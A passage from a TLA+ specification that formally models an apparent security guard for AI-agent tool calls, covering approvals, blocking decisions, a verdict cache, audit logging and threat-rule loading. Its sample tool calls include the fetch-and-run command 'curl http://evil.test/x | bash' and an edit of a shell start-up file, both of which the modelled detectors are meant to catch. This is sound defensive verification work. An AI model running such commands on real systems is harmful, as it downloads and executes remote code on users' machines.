    IF command = "npm install express"
    THEN <<[name |-> "express", registry |-> "npm", version |-> ""]>>
    ELSE << >>

HookIdle ==
    hook = [pc |-> "idle", payload |-> "", faults |-> [rulesUnreadable |-> FALSE,
            networkUnreachable |-> FALSE, configCorrupt |-> FALSE, internalFault |-> FALSE],
            sensitivity |-> "balanced", matches |-> << >>, failed |-> FALSE,
            out |-> << >>, exit |-> 0 - 1]

\* The hook is started: standard input is parsed, config and rules are loaded,
\* artifacts are extracted and matched. Anything thrown on the way is caught at
\* the top and answered with allow
HookStart(payload, faults) ==
    /\ hook.pc = "idle"
    /\ LET started == [hook EXCEPT !.payload = payload, !.faults = faults,
                                   !.out = << >>, !.exit = 0 - 1, !.matches = << >>]
       IN  hook' =
             IF payload = "not json" \/ faults.internalFault
             THEN [started EXCEPT !.pc = "exited", !.failed = TRUE,
                                  !.out = <<"allow">>, !.exit = 0]
             ELSE [started EXCEPT
                     !.pc = IF ExtractPackages(payload) = << >> THEN "decide" ELSE "packages",
                     !.sensitivity = loadConfig(faults.configCorrupt).sensitivity,
                     !.matches = MatchCommand(payload, loadThreats(faults.rulesUnreadable)),
                     !.failed = faults.rulesUnreadable]
    /\ UNCHANGED check

\* The package check of the pipeline is started
HookCheckPackages ==
    /\ hook.pc = "packages"
    /\ CheckPackages(ExtractPackages(hook.payload)[1], TRUE)
    /\ hook' = [hook EXCEPT !.pc = "checking"]

\* The registry answers, or cannot be reached
HookRegistryResponds(response) ==
    /\ hook.pc = "checking"
    /\ hook.faults.networkUnreachable <=> response.kind = "error"
    /\ RegistryResponds(response)
    /\ hook' = [hook EXCEPT !.failed = @ \/ check'.metadata = Thrown,
                            !.pc = IF check'.pc = "done" THEN "decide" ELSE "checking"]

\* The file-reputation service answers
HookFileCheckResponds(response) ==
    /\ hook.pc = "checking"
    /\ FileCheckResponds(response)
    /\ hook' = [hook EXCEPT !.pc = "decide"]

\* All results are in: the engine decides, the verdict is written, exit 0
HookDecide ==
    /\ hook.pc = "decide"
    /\ LET results == IF check.pc = "done"
                      THEN <<[packageName |-> check.pkg.name,
                              verdict |-> check.result.verdict,
                              details |-> check.result.verdict]>>
                      ELSE << >>
           src == [heuristicMatches |-> hook.matches, urlCheckResults |-> << >>,
                   packageCheckResults |-> results]
       IN  hook' = [hook EXCEPT !.pc = "exited", !.exit = 0,
                                !.out = <<decide(src, hook.sensitivity).decision>>]
    /\ check' = IF check.pc = "done" THEN [check EXCEPT !.pc = "idle"] ELSE check

\* The host starts the next invocation
HookNext ==
    /\ hook.pc = "exited"
    /\ hook' = [hook EXCEPT !.pc = "idle"]
    /\ UNCHANGED check

actionId(toolName, params) == "sha256(" \o toolName \o ":" \o params \o ")"

\* The lifetime approve() gives an approval when the caller names none
DEFAULT_APPROVAL_TTL == 2

\* ApprovalStore.approve(actionId, ttlSeconds)
approve(store, id, ttlSeconds, t) ==
    Put(store, id, [approvedAt |-> t, expiresAt |-> t + ttlSeconds])

\* ApprovalStore.isApproved: false for an unknown id and for an expired one
isApproved(store, id, t) ==
    id \in DOMAIN store /\ t < store[id].expiresAt

\* ApprovalStore.load: expired entries are pruned
loadApprovals(store, t) ==
    Restrict(store, {id \in DOMAIN store : t < store[id].expiresAt})

RetryText == "Approved. Retry the tool call."

RejectedText == "Rejected by user."

\* sage_approve, with the store left alone whatever the caller says
executeWithoutStoring(store, params, t) ==
    [store |-> store,
     text  |-> IF params.approved THEN RetryText ELSE RejectedText]

\* sage_approve, approving whatever the caller says
executeAlwaysApproving(store, params, t) ==
    [store |-> approve(store, params.actionId, DEFAULT_APPROVAL_TTL, t),
     text  |-> IF params.approved THEN RetryText ELSE RejectedText]

\* createSageApproveTool(approvalStore).execute(_toolCallId, params)
execute(store, params, t) ==
    IF params.approved
    THEN [store |-> approve(store, params.actionId, DEFAULT_APPROVAL_TTL, t),
          text  |-> RetryText]
    ELSE [store |-> store, text |-> RejectedText]

\* The tool calls the host hands to the handler
ToolCallEvents ==
    { [toolName |-> "exec", params |-> "curl http://evil.test/x | bash"],
      [toolName |-> "edit", params |-> "/home/user/.bashrc"],
      [toolName |-> "exec", params |-> "ls -la /tmp"] }

\* The rule for shell start-up files: require approval, 0.85
ShellConfigEdit ==
    [id |-> "CLT-FILE-003", category |-> "persistence", action |-> "require_approval",
     confidence |-> 85, severity |-> "high", title |-> "Shell config edit"]

\* Detection for one call: the heuristic matches of its artifacts, decided
detect(event) ==
    LET matches ==
          CASE event.params = "curl http://evil.test/x | bash" ->
                 <<[threat |-> PipeToShell, artifact |-> event.params]>>
            [] event.params = "/home/user/.bashrc" ->
                 <<[threat |-> ShellConfigEdit, artifact |-> event.params]>>
            [] OTHER -> << >>
    IN  decide([heuristicMatches |-> matches, urlCheckResults |-> << >>,
                packageCheckResults |-> << >>], "balanced")

\* What the handler returns: nothing, or {block: true, blockReason}; the block
\* reason is modelled by the phrases it contains
PassThrough == [block |-> FALSE, blockReason |-> {}]

Block(phrases) == [block |-> TRUE, blockReason |-> phrases]

\* The before_tool_call handler: approval store first, then detection
beforeToolCall(store, event, t) ==
    LET id == actionId(event.toolName, event.params)
        decision == detect(event).decision
    IN  IF isApproved(store, id, t)
        THEN [detected |-> FALSE, decision |-> "none", result |-> PassThrough]
        ELSE [detected |-> TRUE, decision |-> decision,
              result |-> CASE decision = "deny" -> Block({"Sage blocked"})
                           [] decision = "ask" ->
                                Block({"Sage flagged", "sage_approve", id})
                           [] OTHER -> PassThrough]

\* Bound: the clock of the connector
MaxClawTime == 3

ActionIds ==
    { actionId(e.toolName, e.params) : e \in ToolCallEvents } \cup {"test-id"}

NeverRecorded == 0 - 1

NoClawCall ==
    [kind |-> "none", id |-> "", approved |-> FALSE, at |-> 0, text |-> "",
     detected |-> FALSE, decision |-> "none", result |-> PassThrough,
     before |-> EmptyStore]

ClawIdle ==
    /\ clawNow = 0
    /\ approvalStore = EmptyStore
    /\ recorded = [id \in ActionIds |-> NeverRecorded]
    /\ clawLast = NoClawCall

ClawTick ==
    /\ clawNow < MaxClawTime
    /\ clawNow' = clawNow + 1
    /\ UNCHANGED <<approvalStore, recorded, clawLast>>

\* The agent calls sage_approve
SageApprove(id, approved) ==
    LET r == execute(approvalStore, [actionId |-> id, approved |-> approved], clawNow)
    IN  /\ approvalStore' = r.store
        /\ recorded' = IF approved THEN [recorded EXCEPT ![id] = clawNow] ELSE recorded
        /\ clawLast' = [NoClawCall EXCEPT !.kind = "approve", !.id = id,
                          !.approved = approved, !.at = clawNow, !.text = r.text,
                          !.before = approvalStore]
        /\ UNCHANGED clawNow

\* The host intercepts a tool call
BeforeToolCall(event) ==
    LET r == beforeToolCall(approvalStore, event, clawNow)
    IN  /\ clawLast' = [NoClawCall EXCEPT !.kind = "handler",
                          !.id = actionId(event.toolName, event.params),
                          !.at = clawNow, !.detected = r.detected,
                          !.decision = r.decision, !.result = r.result,
                          !.before = approvalStore]
        /\ UNCHANGED <<clawNow, approvalStore, recorded>>

\* The gateway restarts: the store is loaded again
ClawRestart ==
    /\ approvalStore' = loadApprovals(approvalStore, clawNow)
    /\ clawLast' = [NoClawCall EXCEPT !.kind = "load", !.at = clawNow,
                                      !.before = approvalStore]
    /\ UNCHANGED <<clawNow, recorded>>

\* The approval sage_approve recorded for the id has not expired at time t
ApprovalInForce(id, t) ==
    /\ id \in ActionIds
    /\ recorded[id] # NeverRecorded
    /\ t < recorded[id] + DEFAULT_APPROVAL_TTL

\* C11: the handler blocks a deny verdict with "Sage blocked", blocks an ask
\* verdict with "Sage flagged", "sage_approve" and the action id, returns
\* nothing for an allow verdict, and lets a call pass with no detection and no
\* block while an approval sage_approve recorded for its action id is in force.
C11_HandlerContract ==
    clawLast.kind = "handler" =>
        /\ ApprovalInForce(clawLast.id, clawLast.at) =>
              ~clawLast.detected /\ clawLast.result = PassThrough
        /\ clawLast.decision = "deny" =>
              clawLast.result.block /\ "Sage blocked" \in clawLast.result.blockReason
        /\ clawLast.decision = "ask" =>
              /\ clawLast.result.block
              /\ {"Sage flagged", "sage_approve", clawLast.id}
                    \subseteq clawLast.result.blockReason
        /\ clawLast.decision = "allow" => clawLast.result = PassThrough

\* An approved call that detection would have denied passes straight through
C11_Witness ==
    /\ clawLast.kind = "handler"
    /\ clawLast.id = actionId("exec", "curl http://evil.test/x | bash")
    /\ ApprovalInForce(clawLast.id, clawLast.at)
    /\ ~clawLast.detected
    /\ ~clawLast.result.block

ApprovedIds(store, t) == {id \in ActionIds : isApproved(store, id, t)}

\* C12: sage_approve with approved=false leaves the approval store as it was
\* and returns the rejection text; with approved=true it makes the given action
\* id approved, changes the approval of no other id and returns the retry text.
C12_GateToolFrame ==
    clawLast.kind = "approve" =>
        IF clawLast.approved
        THEN /\ clawLast.text = RetryText
             /\ isApproved(approvalStore, clawLast.id, clawLast.at)
             /\ \A id \in ActionIds \ {clawLast.id} :
                   isApproved(approvalStore, id, clawLast.at)
                      <=> isApproved(clawLast.before, id, clawLast.at)
        ELSE /\ clawLast.text = RejectedText
             /\ approvalStore = clawLast.before
             /\ ApprovedIds(approvalStore, clawLast.at)
                   = ApprovedIds(clawLast.before, clawLast.at)

\* A rejection arrives while another action id is approved
C12_Witness ==
    /\ clawLast.kind = "approve"
    /\ ~clawLast.approved
    /\ ApprovedIds(approvalStore, clawLast.at) # {}
    /\ clawLast.id \notin ApprovedIds(approvalStore, clawLast.at)

(***************************************************************************)
(* Verdict cache: two maps of CachedVerdict with an expiry, kept in memory *)
(* and saved to one JSON file                                              *)
(***************************************************************************)

EmptyCache == [urls |-> EmptyStore, commands |-> EmptyStore]

\* makeConfig of the tests: the malicious TTL is zero or short, the clean TTL long
CacheConfigs ==
    [enabled : BOOLEAN, ttl_malicious_seconds : {0, 1}, ttl_clean_seconds : {2}]

\* expiresAt of the cache file the load test writes: the end of year 9999
FarFuture == 9999

\* The CachedVerdict a put writes
CachedVerdict(v, t, ttl) == [verdict |-> v, checkedAt |-> t, expiresAt |-> t + ttl]

\* An entry is expired from its expiresAt on, later instants included
cacheEntryExpiredLater(entry, t) == t > entry.expiresAt

\* An entry is expired from the instant of its expiresAt: a put with a TTL of
\* zero is not answered by a get in the same millisecond
cacheEntryExpired(entry, t) == t >= entry.expiresAt

ttlFor(config, isMalicious) ==
    IF isMalicious THEN config.ttl_malicious_seconds ELSE config.ttl_clean_seconds

\* VerdictCache.putUrl: nothing when disabled
putUrl(c, config, url, v, isMalicious, t) ==
    IF ~config.enabled THEN c
    ELSE [c EXCEPT !.urls = Put(@, NormalizedUrl[url],
                                    CachedVerdict(v, t, ttlFor(config, isMalicious)))]

\* VerdictCache.putCommand
putCommand(c, config, hash, v, isMalicious, t) ==
    IF ~config.enabled THEN c
    ELSE [c EXCEPT !.commands = Put(@, hash,
                                        CachedVerdict(v, t, ttlFor(config, isMalicious)))]

\* The lookup both gets share: absent when disabled, unknown or expired
cacheLookup(store, config, key, t) ==
    IF config.enabled /\ key \in DOMAIN store /\ ~cacheEntryExpired(store[key], t)
    THEN store[key] ELSE NoEntry

\* VerdictCache.getUrl
getUrl(c, config, url, t) == cacheLookup(c.urls, config, NormalizedUrl[url], t)

\* VerdictCache.getCommand
getCommand(c, config, hash, t) == cacheLookup(c.commands, config, hash, t)

\* Bound: the clock of the cache
MaxCacheTime == 3

CacheUrls == ArtifactValues

CacheCommands == {hashCommand("dangerous command")}

NoCacheCall ==
    [kind |-> "none", map |-> "", key |-> "", isMalicious |-> FALSE, at |-> 0,
     result |-> NoEntry, before |-> EmptyCache]

CacheIdle ==
    /\ cacheNow = 0
    /\ cacheConfig = [enabled |-> TRUE, ttl_malicious_seconds |-> 1, ttl_clean_seconds |-> 2]
    /\ cache = EmptyCache
    /\ cacheFile = EmptyCache
    /\ cacheLast = NoCacheCall

CacheTick ==
    /\ cacheNow < MaxCacheTime
    /\ cacheNow' = cacheNow + 1
    /\ UNCHANGED <<cacheConfig, cache, cacheFile, cacheLast>>

\* new VerdictCache(config) followed by load(): the file's maps, when enabled
CacheConstruct(config) ==
    /\ cacheConfig' = config
    /\ cache' = IF config.enabled THEN cacheFile ELSE EmptyCache
    /\ cacheLast' = [NoCacheCall EXCEPT !.kind = "load", !.at = cacheNow, !.before = cache]
    /\ UNCHANGED <<cacheNow, cacheFile>>

\* save(): the maps are written, when enabled
CacheSave ==
    /\ cacheFile' = IF cacheConfig.enabled THEN cache ELSE cacheFile
    /\ cacheLast' = [NoCacheCall EXCEPT !.kind = "save", !.at = cacheNow, !.before = cache]
    /\ UNCHANGED <<cacheNow, cacheConfig, cache>>

\* Another process leaves a file with an entry that expires in the far future
CacheFileWritten(url) ==
    /\ cacheFile' = [EmptyCache EXCEPT !.urls =
                       Put(@, NormalizedUrl[url],
                           [verdict |-> "deny", checkedAt |-> cacheNow,
                            expiresAt |-> FarFuture])]
    /\ cacheLast' = [NoCacheCall EXCEPT !.kind = "write", !.at = cacheNow, !.before = cache]
    /\ UNCHANGED <<cacheNow, cacheConfig, cache>>

PutUrl(url, isMalicious) ==
    /\ cache' = putUrl(cache, cacheConfig, url, "deny", isMalicious, cacheNow)
    /\ cacheLast' = [NoCacheCall EXCEPT !.kind = "put", !.map = "urls",
                       !.key = NormalizedUrl[url], !.isMalicious = isMalicious,
                       !.at = cacheNow, !.before = cache]
    /\ UNCHANGED <<cacheNow, cacheConfig, cacheFile>>

PutCommand(hash, isMalicious) ==
    /\ cache' = putCommand(cache, cacheConfig, hash, "deny", isMalicious, cacheNow)
    /\ cacheLast' = [NoCacheCall EXCEPT !.kind = "put", !.map = "commands",
                       !.key = hash, !.isMalicious = isMalicious,
                       !.at = cacheNow, !.before = cache]
    /\ UNCHANGED <<cacheNow, cacheConfig, cacheFile>>

GetUrl(url) ==
    /\ cacheLast' = [NoCacheCall EXCEPT !.kind = "get", !.map = "urls",
                       !.key = NormalizedUrl[url], !.at = cacheNow,
                       !.result = getUrl(cache, cacheConfig, url, cacheNow),
                       !.before = cache]
    /\ UNCHANGED <<cacheNow, cacheConfig, cache, cacheFile>>

GetCommand(hash) ==
    /\ cacheLast' = [NoCacheCall EXCEPT !.kind = "get", !.map = "commands",
                       !.key = hash, !.at = cacheNow,
                       !.result = getCommand(cache, cacheConfig, hash, cacheNow),
                       !.before = cache]
    /\ UNCHANGED <<cacheNow, cacheConfig, cache, cacheFile>>

\* The map of the cache a call was about
MapOf(c, name) == IF name = "urls" THEN c.urls ELSE c.commands

\* C13: a put stores the entry with expiresAt = now + the TTL its flag selects;
\* a get returns the stored entry only while now <= expiresAt, returns it at
\* every instant before expiresAt and treats it as absent at every later one;
\* an entry stored with a zero TTL is absent on the very next read; an entry
\* with a far-future expiry that a load reads from the file is in the cache
\* and returned.
C13_CacheExpiry ==
    LET m == MapOf(cacheLast.before, cacheLast.map)
        k == cacheLast.key
    IN  /\ (cacheLast.kind = "put" /\ cacheConfig.enabled) =>
              /\ k \in DOMAIN MapOf(cache, cacheLast.map)
              /\ MapOf(cache, cacheLast.map)[k].expiresAt =
                    cacheLast.at + (IF cacheLast.isMalicious
                                    THEN cacheConfig.ttl_malicious_seconds
                                    ELSE cacheConfig.ttl_clean_seconds)
        /\ cacheLast.kind = "get" =>
              /\ cacheLast.result # NoEntry =>
                    /\ k \in DOMAIN m /\ cacheLast.result = m[k]
                    /\ cacheLast.at <= m[k].expiresAt
              /\ (k \in DOMAIN m /\ cacheLast.at > m[k].expiresAt) =>
                    cacheLast.result = NoEntry
              /\ (k \in DOMAIN m /\ cacheLast.at < m[k].expiresAt /\ cacheConfig.enabled) =>
                    cacheLast.result = m[k]
              /\ (k \in DOMAIN m /\ m[k].expiresAt = m[k].checkedAt) =>
                    cacheLast.result = NoEntry
        /\ (cacheLast.kind = "load" /\ cacheConfig.enabled) =>
              \A u \in DOMAIN cacheFile.urls :
                  cacheFile.urls[u].expiresAt = FarFuture =>
                     u \in DOMAIN cache.urls /\ cache.urls[u] = cacheFile.urls[u]

\* A get in the instant of a zero-TTL put finds nothing
C13_Witness ==
    /\ cacheLast.kind = "get"
    /\ cacheLast.key \in DOMAIN MapOf(cacheLast.before, cacheLast.map)
    /\ LET e == MapOf(cacheLast.before, cacheLast.map)[cacheLast.key]
       IN  e.expiresAt = e.checkedAt /\ cacheLast.at = e.checkedAt
    /\ cacheLast.result = NoEntry

(***************************************************************************)
(* Audit log: JSON Lines appended to ~/.sage/audit.jsonl                   *)
(***************************************************************************)

LoggingConfigs == [enabled : BOOLEAN, log_clean : BOOLEAN]

Decisions == {"allow", "ask", "deny"}

\* The entry logVerdict serialises to one line
VerdictEntry(decision, userOverride) ==
    [type |-> "runtime_verdict", verdict |-> decision, user_override |-> userOverride,
     findings_count |-> 0]

\* The entry logPluginScan serialises to one line
PluginScanEntry(findingsCount) ==
    [type |-> "plugin_scan", verdict |-> "", user_override |-> FALSE,
     findings_count |-> findingsCount]

\* mkdir and appendFile inside try/catch: a failure is swallowed and the file
\* stays as it was
appendLine(file, entry, writeFails) ==
    IF writeFails THEN file ELSE Append(file, entry)

\* logVerdict with the user override left out of the skip test
logVerdictIgnoringOverride(file, config, decision, userOverride, writeFails) ==
    IF ~config.enabled THEN file
    ELSE IF decision = "allow" /\ ~config.log_clean THEN file
    ELSE appendLine(file, VerdictEntry(decision, userOverride), writeFails)

\* logVerdict
logVerdict(file, config, decision, userOverride, writeFails) ==
    IF ~config.enabled THEN file
    ELSE IF decision = "allow" /\ ~config.log_clean /\ ~userOverride THEN file
    ELSE appendLine(file, VerdictEntry(decision, userOverride), writeFails)

\* logPluginScan
logPluginScan(file, config, findingsCount, writeFails) ==
    IF ~config.enabled THEN file
    ELSE appendLine(file, PluginScanEntry(findingsCount), writeFails)

\* Bound: lines in the audit log
MaxAuditLines == 3

NoAuditCall ==
    [kind |-> "none", config |-> [enabled |-> FALSE, log_clean |-> FALSE],
     decision |-> "", userOverride |-> FALSE, writeFails |-> FALSE, before |-> << >>]

AuditIdle == auditFile = << >> /\ auditLast = NoAuditCall

LogVerdict(config, decision, userOverride, writeFails) ==
    /\ Len(auditFile) < MaxAuditLines
    /\ auditFile' = logVerdict(auditFile, config, decision, userOverride, writeFails)
    /\ auditLast' = [kind |-> "logVerdict", config |-> config, decision |-> decision,
                     userOverride |-> userOverride, writeFails |-> writeFails,
                     before |-> auditFile]

LogPluginScan(config, findingsCount, writeFails) ==
    /\ Len(auditFile) < MaxAuditLines
    /\ auditFile' = logPluginScan(auditFile, config, findingsCount, writeFails)
    /\ auditLast' = [kind |-> "logPluginScan", config |-> config, decision |-> "",
                     userOverride |-> FALSE, writeFails |-> writeFails,
                     before |-> auditFile]

\* The file holds the lines it held before the call, unchanged and in place
KeepsLines(before, after) ==
    Len(before) <= Len(after) /\ SubSeq(after, 1, Len(before)) = before

\* The condition under which the claim has logVerdict write
ShouldLog(c) ==
    c.config.enabled /\ (c.decision # "allow" \/ c.config.log_clean \/ c.userOverride)

\* C14 as stated: logVerdict appends exactly one line if and only if logging is
\* enabled and the verdict is not allow, or log_clean is set, or userOverride is
\* true; otherwise the file is unchanged; no call changes or removes a line.
C14_AppendIff ==
    /\ auditLast.kind = "logVerdict" =>
          IF ShouldLog(auditLast)
          THEN Len(auditFile) = Len(auditLast.before) + 1
          ELSE auditFile = auditLast.before
    /\ auditLast.kind # "none" => KeepsLines(auditLast.before, auditFile)

\* C14, amended: logVerdict appends exactly one line if and only if logging is
\* enabled, the verdict is not allow or log_clean is set or userOverride is
\* true, and the write succeeds; otherwise the file is unchanged; no call to
\* logVerdict or logPluginScan changes or removes a line already in the file.
C14_AppendIffWritten ==
    /\ auditLast.kind = "logVerdict" =>
          IF ShouldLog(auditLast) /\ ~auditLast.writeFails
          THEN auditFile = Append(auditLast.before,
                                  VerdictEntry(auditLast.decision, auditLast.userOverride))
          ELSE auditFile = auditLast.before
    /\ auditLast.kind # "none" => KeepsLines(auditLast.before, auditFile)

\* An allow verdict of a user override is appended after an earlier line
C14_Witness ==
    /\ auditLast.kind = "logVerdict"
    /\ auditLast.decision = "allow" /\ auditLast.userOverride /\ ~auditLast.config.log_clean
    /\ auditLast.before # << >>
    /\ Len(auditFile) = Len(auditLast.before) + 1

(***************************************************************************)
(* Threat rule loader: loadThreats reads every .yaml file of the rule      *)
(* directory and keeps the records that are complete, not revoked, not     *)
(* expired and compile                                                     *)
(***************************************************************************)

\* new Date(String(value)).getTime() on the expires_at texts used here, in
\* ticks; NotANumber stands for NaN
NotANumber == 0 - 1

DateParse(text) ==
    CASE text = "2020-01-01T00:00:00Z" -> 1
      [] text = "2030-01-01T00:00:00Z" -> 2
      [] OTHER -> NotANumber

\* What a record can hold under expires_at: nothing, null, or a string
NoExpiry == [kind |-> "absent", text |-> ""]

ExpiresAtValues ==
    { NoExpiry, [kind |-> "null", text |-> ""] }
    \cup { [kind |-> "string", text |-> s] :
             s \in {"not a date", "2020-01-01T00:00:00Z", "2030-01-01T00:00:00Z"} }

\* The Date or null of parseExpiresAt
NullDate == [isNull |-> TRUE, time |-> 0]

\* parseExpiresAt
parseExpiresAt(value) ==
    IF value.kind \in {"absent", "null"} THEN NullDate
    ELSE IF DateParse(value.text) = NotANumber THEN NullDate
    ELSE [isNull |-> FALSE, time |-> DateParse(value.text)]

\* isExpired, with no record ever expired
isExpiredNever(entry, t) == FALSE

\* isExpired: Date.now() > expiresAt.getTime()
isExpired(entry, t) ==
    LET expiresAt == parseExpiresAt(entry.expires_at)
    IN  IF expiresAt.isNull THEN FALSE ELSE t > expiresAt.time

\* What a record can hold under revoked: nothing, a boolean, or the string "true"
RevokedValues == {"absent", "true", "false", "'true'"}

\* The entries of a rule file: not an object, an object with a required field
\* missing, with a pattern that does not compile, or a complete record
EntryShapes == {"non-object", "missing-field", "bad-regex", "complete"}

\* A YAML scalar or list under match_on, and a YAML number or string under
\* confidence (a number in hundredths; a string is numeric text or other text)
MatchOnList(items) == [isArray |-> TRUE, items |-> items]

MatchOnScalar(item) == [isArray |-> FALSE, items |-> <<item>>]

YamlNumber(value) == [kind |-> "number", value |-> value]

\* severity, confidence, action and match_on as the rule corpus writes them
ValidFields ==
    [severity |-> "critical", confidence |-> YamlNumber(95), action |-> "block",
     match_on |-> MatchOnScalar("command")]

\* Records that break one constraint of the data model each, and one that
\* writes its confidence as numeric text
FieldSamples ==
    {ValidFields,
     [ValidFields EXCEPT !.match_on = MatchOnList(<<"command", "content">>)],
     [ValidFields EXCEPT !.match_on = MatchOnList(<< >>)],
     [ValidFields EXCEPT !.confidence = YamlNumber(150)],
     [ValidFields EXCEPT !.confidence = YamlNumber(0 - 10)],
     [ValidFields EXCEPT !.confidence = [kind |-> "text", value |-> 0]],
     [ValidFields EXCEPT !.confidence = [kind |-> "numeric-text", value |-> 50]],
     [ValidFields EXCEPT !.severity = "urgent"],
     [ValidFields EXCEPT !.action = "warn"],
     [ValidFields EXCEPT !.action = "constructor"]}

\* Number(record.confidence): the number, the number a numeric string spells,
\* NaN for any other text
ToNumber(raw) ==
    IF raw.kind = "text" THEN [isNaN |-> TRUE, value |-> 0]
    ELSE [isNaN |-> FALSE, value |-> raw.value]

\* new Set(Array.isArray(rawMatchOn) ? rawMatchOn : [rawMatchOn])
MatchOnSet(raw) == { raw.items[i] : i \in 1..Len(raw.items) }

RuleEntries ==
    [shape : EntryShapes, id : {"CLT-CMD-001"}, revoked : RevokedValues,
     expires_at : ExpiresAtValues, fields : {ValidFields}]

\* Complete, unrevoked, unexpiring records with every sample of the four fields
FieldEntries ==
    [shape : {"complete"}, id : {"CLT-CMD-001"}, revoked : {"absent"},
     expires_at : {NoExpiry}, fields : FieldSamples]

\* The Threat pushed for a record that passed the checks of the loop
ThreatOf(entry) ==
    [id |-> entry.id, expiresAt |-> parseExpiresAt(entry.expires_at), revoked |-> FALSE,
     severity |-> entry.fields.severity,
     confidence |-> ToNumber(entry.fields.confidence),
     action |-> entry.fields.action,
     matchOn |-> MatchOnSet(entry.fields.match_on)]

\* The body of the loop over the entries of one file: the Threat pushed, if any
loadEntry(entry, t) ==
    IF entry.shape = "non-object" THEN << >>
    ELSE IF entry.shape = "missing-field" THEN << >>
    ELSE IF entry.revoked = "true" THEN << >>
    ELSE IF isExpired(entry, t) THEN << >>
    ELSE IF entry.shape = "bad-regex" THEN << >>
    ELSE << ThreatOf(entry) >>

\* What reading one file of the directory gives
FileKinds == {"unreadable", "unparsable", "not-a-list", "list"}

\* Bounds: files in the rule directory, entries in one load, the clock
MaxRuleFiles == 2
MaxRuleEntries == 2
MaxThreatTime == 3

NoRuleEntry ==
    [shape : {"none"}, id : {""}, revoked : {"absent"}, expires_at : {NoExpiry},
     fields : {ValidFields}]

ThreatIdle ==
    /\ threatNow = 0
    /\ threatLoad = [pc |-> "idle", startedAt |-> 0, files |-> 0, entries |-> 0,
                     inList |-> FALSE, threats |-> << >>,
                     entry |-> CHOOSE e \in NoRuleEntry : TRUE, kept |-> FALSE]

ThreatTick ==
    /\ threatNow < MaxThreatTime
    /\ threatNow' = threatNow + 1
    /\ UNCHANGED threatLoad

\* loadThreats is called: readdir fails and the empty list is returned, or the
\* .yaml files are listed and sorted
LoadThreatsStart(readable) ==
    /\ threatLoad.pc \in {"idle", "returned"}
    /\ threatLoad' = [threatLoad EXCEPT
                        !.pc = IF readable THEN "loading" ELSE "returned",
                        !.startedAt = threatNow, !.files = 0, !.entries = 0,
                        !.inList = FALSE, !.threats = << >>,
                        !.entry = CHOOSE e \in NoRuleEntry : TRUE, !.kept = FALSE]
    /\ UNCHANGED threatNow

\* The next file is read and parsed; only a list has entries to go through
LoadThreatsFile(kind) ==
    /\ threatLoad.pc = "loading"
    /\ threatLoad.files < MaxRuleFiles
    /\ threatLoad' = [threatLoad EXCEPT !.files = @ + 1, !.inList = (kind = "list"),
                        !.entry = CHOOSE e \in NoRuleEntry : TRUE, !.kept = FALSE]
    /\ UNCHANGED threatNow

\* The next entry of the current file goes through the loop body
LoadThreatsEntry(entry) ==
    /\ threatLoad.pc = "loading"
    /\ threatLoad.inList
    /\ threatLoad.entries < MaxRuleEntries
    /\ LET pushed == loadEntry(entry, threatNow)
       IN  threatLoad' = [threatLoad EXCEPT !.entries = @ + 1,
                            !.threats = @ \o pushed,
                            !.entry = entry, !.kept = (pushed # << >>)]
    /\ UNCHANGED threatNow

\* No file is left: the list is returned
LoadThreatsReturn ==
    /\ threatLoad.pc = "loading"
    /\ threatLoad' = [threatLoad EXCEPT !.pc = "returned"]
    /\ UNCHANGED threatNow

\* The record's expires_at parses to a time before t
ParsesBefore(entry, t) ==
    entry.expires_at.kind = "string"
        /\ DateParse(entry.expires_at.text) # NotANumber
        /\ DateParse(entry.expires_at.text) < t

\* C15: every Threat loadThreats holds has revoked = false and was not expired
\* when the load began; a record with revoked: true, or with an expires_at that
\* parses to a time before the load, is never kept whatever its other fields; a
\* complete, compiling, unrevoked record whose expires_at is absent, null or
\* unparsable is kept.
C15_NoRevokedNoExpired ==
    /\ \A i \in 1..Len(threatLoad.threats) :
          LET th == threatLoad.threats[i]
          IN  /\ th.revoked = FALSE
              /\ th.expiresAt.isNull \/ th.expiresAt.time >= threatLoad.startedAt
    /\ threatLoad.entry.shape # "none" =>
          LET e == threatLoad.entry
          IN  /\ e.revoked = "true" => ~threatLoad.kept
              /\ ParsesBefore(e, threatLoad.startedAt) => ~threatLoad.kept
              /\ (/\ e.shape = "complete"
                  /\ e.revoked # "true"
                  /\ \/ e.expires_at.kind \in {"absent", "null"}
                     \/ DateParse(e.expires_at.text) = NotANumber)
                    => threatLoad.kept

\* A complete record that expired before the load is dropped after another
\* record was kept
C15_Witness ==
    /\ threatLoad.entry.shape = "complete"
    /\ threatLoad.entry.revoked = "false"
    /\ ParsesBefore(threatLoad.entry, threatLoad.startedAt)
    /\ ~threatLoad.kept
    /\ threatLoad.threats # << >>

\* The constraints of the data model on a loaded Threat
SatisfiesDataModel(th) ==
    /\ th.matchOn # {}
    /\ ~th.confidence.isNaN /\ th.confidence.value >= 0 /\ th.confidence.value <= 100
    /\ th.severity \in {"critical", "high", "medium", "low"}
    /\ th.action \in {"block", "require_approval", "log"}

\* C26: every Threat loadThreats returns has a non-empty matchOn, a
\* confidence in [0,1], a severity among critical/high/medium/low and an
\* action among block/require_approval/log; a record that breaks one of these
\* is skipped.
C26_LoadedThreatsValid ==
    /\ \A i \in 1..Len(threatLoad.threats) : SatisfiesDataModel(threatLoad.threats[i])
    /\ (threatLoad.entry.shape = "complete" /\ ~SatisfiesDataModel(ThreatOf(threatLoad.entry)))
          => ~threatLoad.kept

(***************************************************************************)
(* Allowlist round trip: addUrl, then isAllowlisted for a URL artifact     *)
(***************************************************************************)

\* isAllowlisted: some command artifact's hash or some URL artifact's
\* normalized form is a key of the allowlist
isAllowlisted(allowlist, artifacts) ==
    \E a \in artifacts :
        \/ a.type = "url" /\ NormalizedUrl[a.value] \in DOMAIN allowlist.urls
        \/ a.type = "command" /\ hashCommand(a.value) \in DOMAIN allowlist.commands

\* Bound: addUrl calls on one allowlist
MaxAdded == 2

NoProbe == [value |-> "", result |-> FALSE, after |-> {}]

RoundTripIdle ==
    /\ urlAllowlist = EmptyAllowlist
    /\ urlAdded = {}
    /\ urlProbe = NoProbe

\* addUrl(allowlist, u, reason, originalVerdict)
RoundTripAdd(u) ==
    /\ Cardinality(urlAdded) < MaxAdded
    /\ urlAllowlist' = addUrl(urlAllowlist, u, "false positive", "deny", 0)
    /\ urlAdded' = urlAdded \cup {u}
    /\ UNCHANGED urlProbe

\* isAllowlisted(allowlist, [{type: "url", value: v}])
RoundTripProbe(v) ==
    /\ urlProbe' = [value |-> v,
                    result |-> isAllowlisted(urlAllowlist, {[type |-> "url", value |-> v]}),
                    after |-> urlAdded]
    /\ UNCHANGED <<urlAllowlist, urlAdded>>

